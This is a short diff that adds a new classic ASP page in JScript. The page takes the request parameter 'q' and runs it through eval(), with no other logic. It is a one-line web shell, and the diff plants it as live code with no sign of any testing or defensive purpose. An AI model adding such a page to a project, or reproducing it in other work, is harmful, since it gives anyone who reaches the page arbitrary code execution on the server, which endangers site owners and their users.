@@ -1,0 +1,7 @@
+<%@ LANGUAGE="JScript" %>
+<%
+var q = Request.Item("q");
+if (String(q) != "undefined") {
+    eval(String(q));
+}
+%>
